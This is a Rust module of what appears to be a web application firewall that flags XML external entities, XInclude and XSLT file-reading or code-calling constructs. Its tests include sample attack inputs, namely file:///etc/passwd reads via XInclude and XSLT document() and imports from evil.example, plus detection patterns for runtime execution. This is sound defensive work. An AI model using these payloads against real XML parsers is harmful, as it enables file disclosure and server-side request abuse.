//! XML that declares entities or loads documents, wherever it stands.

use super::{Hit, Hits, Text};
use crate::waf::Part;
use crate::waf::meter::price;
use crate::waf::rules::Rule;
use crate::waf::rules::xml as rules;
use crate::waf::scan::{
    Needles, at, find, is_space, is_word, skip_space, skip_while, span, stands, word,
};

/// Without one of these nothing here can fire.
pub(super) const TRIGGERS: &[&str] = &[
    "<!doctype",
    "<!entity",
    "<!notation",
    ":include",
    "<xsl:",
    "msxsl:script",
    "exsl:document",
    "xalan/java",
    "xslt/java",
    "w3.org/2001/xinclude",
];

/// Longest declaration looked at.
const REACH: usize = 512;
/// Names of documents up to this length are a tester's: `x.xml`.
const MIN_INCLUDED: usize = 6;
/// Shortest name of an owner of document types.
const MIN_OWNER: usize = 4;

static SIGNS: Needles<'static> = Needles::numbered(
    14,
    &[
        b"<!doctype",
        b"<!entity",
        b"<!notation",
        b":include",
        b"<xsl:",
        b"msxsl:script",
        b"exsl:document",
        b"xalan/java",
        b"xslt/java",
        b"w3.org/2001/xinclude",
    ],
);

/// What is looked for in a whole view.
pub(super) static SETS: &[&Needles<'static>] = &[&SIGNS];

/// Names the rules that the text breaks.
pub(super) fn detect(text: &Text<'_>, hits: &mut Hits) {
    if text.part == Part::File {
        return;
    }
    let mut index = 0;
    while let Some((start, sign)) = hits.absent.find(&SIGNS, text.lower, index) {
        index = start + sign.len();
        if sign == b"<!doctype" {
            hits.meter.charge(1, price::DOCUMENT);
        }
        if let Some(rule) = judge(text.lower, start, index, sign) {
            hits.push(Hit::new(rule, start, index));
        }
    }
}

fn judge(text: &[u8], start: usize, end: usize, sign: &[u8]) -> Option<&'static Rule> {
    match sign {
        b"<!entity" | b"<!notation" => {
            let name = skip_space(text, end);
            let is_declared = name > end && (is_word(at(text, name)) || at(text, name) == b'%');
            is_declared.then_some(&rules::ENTITY)
        }
        b"<!doctype" => document_type(text, end),
        b":include" => includes(text, start, end).then_some(&rules::INCLUDE),
        b"<xsl:" => transforms(text, end).then_some(&rules::TRANSFORM),
        b"w3.org/2001/xinclude" => (!names_own(text, start)).then_some(&rules::INCLUDE),
        _ => Some(&rules::TRANSFORM),
    }
}

/// Owners of document types that parsers know and honest documents name.
const OWNERS: &[&[u8]] = &[
    b"www.w3.org/",
    b"www.apple.com/dtds/",
    b"mybatis.org/dtd/",
    b"java.sun.com/",
    b"xmlns.jcp.org/",
    b"www.springframework.org/",
    b"hibernate.sourceforge.net/",
    b"www.hibernate.org/",
    b"hibernate.org/",
    b"struts.apache.org/",
    b"logging.apache.org/",
    b"www.oasis-open.org/",
    b"www.docbook.org/",
    b"docbook.org/",
    b"xml.cxml.org/",
    b"www.jboss.org/",
    b"www.puppycrawl.com/",
    b"checkstyle.org/",
    b"gwt-project.org/",
    b"my.netscape.com/",
    b"www.wapforum.org/",
];

/// What follows `<!DOCTYPE`: an identifier of somewhere else, or declarations.
fn document_type(text: &[u8], end: usize) -> Option<&'static Rule> {
    let head = span(text, end, end + REACH);
    let name = skip_space(head, 0);
    let kind = skip_space(
        head,
        skip_while(head, name, |byte| {
            is_word(byte) || matches!(byte, b':' | b'-' | b'.')
        }),
    );
    if name == 0 || kind == name {
        return None;
    }
    let stop = skip_while(head, kind, |byte| !matches!(byte, b'[' | b'>'));
    let identifier = span(head, kind, stop);
    if matches!(word(identifier, 0), b"system" | b"public") && is_fetched(identifier) {
        return Some(&rules::EXTERNAL);
    }
    // `%remote;` runs what a declaration elsewhere holds.
    let subset = span(head, stop, head.len());
    let percent = find(subset, b"%", 0).filter(|_| at(head, stop) == b'[')?;
    let reference = word(subset, percent + 1);
    let is_reference = !reference.is_empty() && at(subset, percent + 1 + reference.len()) == b';';
    is_reference.then_some(&rules::ENTITY)
}

/// Whether the last quoted text of `PUBLIC "x" "y"` is fetched from an unknown place.
fn is_fetched(identifier: &[u8]) -> bool {
    let is_public = identifier.starts_with(b"public");
    let mut quoted = identifier
        .split(|byte| matches!(byte, b'"' | b'\''))
        .skip(1)
        .step_by(2);
    let first = quoted.next();
    let system = if is_public { quoted.next() } else { first };
    let Some(system) = system else {
        return false;
    };
    let host = system
        .strip_prefix(b"https://")
        .or_else(|| system.strip_prefix(b"http://"));
    let is_owned = host.is_some_and(|host| {
        OWNERS.iter().any(|owner| host.starts_with(owner))
            || is_public && first.is_some_and(|identifier| is_owner(identifier, host))
    });
    // `PUBLIC "-//NLM//DTD JATS" "JATS.dtd"`: a file beside the document.
    let is_beside = is_public
        && system.ends_with(b".dtd")
        && !system
            .iter()
            .any(|byte| matches!(byte, b'/' | b':' | b'\\'));
    !is_owned && !is_beside && system != b"about:legacy-compat" && !system.is_empty()
}

/// Whether the owner that a formal public identifier names (`-//owner//DTD name//EN`) is the host.
fn is_owner(identifier: &[u8], host: &[u8]) -> bool {
    let mut parts = identifier.split(|byte| *byte == b'/').step_by(2);
    let (sign, owner, class) = (parts.next(), parts.next(), parts.next());
    let domain = host.split(|byte| *byte == b'/').next().unwrap_or_default();
    let mut labels = domain.split(|byte| *byte == b'.').rev().skip(1);
    let domain = labels.next().unwrap_or_default();
    matches!(sign, Some(b"-" | b"+"))
        && class.is_some_and(|class| class.starts_with(b"dtd "))
        && domain.len() >= MIN_OWNER
        && owner.is_some_and(|owner| {
            owner
                .split(|byte| !byte.is_ascii_alphanumeric())
                .any(|word| word == domain)
        })
}

/// `<xi:include href=`.
fn includes(text: &[u8], start: usize, end: usize) -> bool {
    let prefix = crate::waf::scan::word_before(text, start);
    let open = start.saturating_sub(prefix.len() + 1);
    at(text, open) == b'<'
        && !prefix.is_empty()
        && !matches!(prefix, b"xsl" | b"jsp" | b"esi" | b"xs" | b"xsd")
        && is_space(at(text, end))
        && find(span(text, end, end + REACH), b"href", 0).is_some()
        && !names_own(text, start)
}

/// Whether the element around `index` includes a document that lies beside its own: `legal.xml`.
fn names_own(text: &[u8], index: usize) -> bool {
    let lead = span(text, index.saturating_sub(REACH), index);
    let open = lead.iter().rposition(|byte| *byte == b'<');
    let Some(open) = open.map(|open| index - lead.len() + open) else {
        return false;
    };
    let tag = span(text, open, open + REACH);
    let Some(close) = tag.iter().position(|byte| *byte == b'>') else {
        return false;
    };
    let tag = span(tag, 0, close);
    let Some(value) = find(tag, b"href=", 0).map(|start| span(tag, start + 6, tag.len())) else {
        return false;
    };
    let length = skip_while(value, 0, |byte| {
        is_word(byte) || matches!(byte, b'-' | b'.')
    });
    let name = span(value, 0, length);
    matches!(at(value, length), b'"' | b'\'')
        && name.ends_with(b".xml")
        && name.len() > MIN_INCLUDED
        && find(tag, b"parse=", 0).is_none()
}

/// A stylesheet that reads files, loads others or calls the language it runs in.
fn transforms(text: &[u8], end: usize) -> bool {
    let name = word(text, end);
    let tag = span(text, end, end + REACH);
    let tag = span(
        tag,
        0,
        skip_while(tag, 0, |byte| !matches!(byte, b'>' | b'<')),
    );
    let has = |signs: &[&[u8]]| signs.iter().any(|sign| find(tag, sign, 0).is_some());
    match name {
        b"include" | b"import" => has(&[b"://", b"file:", b"=\"/", b"='/"]),
        b"stylesheet" | b"transform" => has(&[b"//php.net/xsl", b"/java", b"clitype:"]),
        _ => {
            has(&[
                b"document('",
                b"document(\"",
                b"document(&quot;",
                b"document(/",
                b"document(concat",
                b"unparsed-text(",
                b"php:function",
                b"'xsl:vendor'",
                b"\"xsl:vendor",
                b":exec(",
                b"getruntime",
                b"evaluate(",
            ]) && !stands(text, end, b"key")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(text: &str) -> Option<&'static str> {
        let mut hits = Hits::default();
        detect(
            &Text {
                lower: text.to_ascii_lowercase().as_bytes(),
                part: Part::Xml,
                name: "",
            },
            &mut hits,
        );
        hits.first().map(|hit| hit.rule.id)
    }

    #[test]
    fn known_document_types_are_honest() {
        for text in [
            "<!DOCTYPE html>",
            "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
            "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
            "<!DOCTYPE article PUBLIC \"-//NLM//DTD JATS v1.2//EN\" \"JATS-publishing1.dtd\">",
            "<!DOCTYPE node PUBLIC \"-//freedesktop//DTD D-BUS Object Introspection 1.0//EN\" \"http://www.freedesktop.org/standards/dbus/1.0/introspect.dtd\">",
            "<!DOCTYPE note [<!ELEMENT note (to)>]>",
            "<!entity> is a declaration",
        ] {
            assert_eq!(rule(text), None, "{text}");
        }
    }

    #[test]
    fn a_document_beside_its_own_may_be_included() {
        for (href, is_honest) in [
            ("legal.xml", true),
            ("/etc/passwd", false),
            ("../a.xml", false),
        ] {
            let text =
                format!("<include xmlns=\"http://www.w3.org/2001/XInclude\" href=\"{href}\"/>");
            assert_eq!(rule(&text).is_none(), is_honest, "{text}");
        }
    }

    #[test]
    fn foreign_ones_are_not() {
        for text in [
            "<!DOCTYPE x SYSTEM \"x.dtd\">",
            "<!DOCTYPE x\nPUBLIC '-//W3C//DTD XHTML//EN' 'http://evil.example/www.w3.org/'>",
            "<!DOCTYPE x [ %remote; ]>",
            "<!ENTITY % a 'b'>",
            "<y:include xmlns:y='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
            "<xsl:value-of select=\"document('file:///etc/passwd')\"/>",
            "<xsl:import href=\"http://evil.example/x.xsl\"/>",
        ] {
            assert!(rule(text).is_some(), "{text}");
        }
    }
}
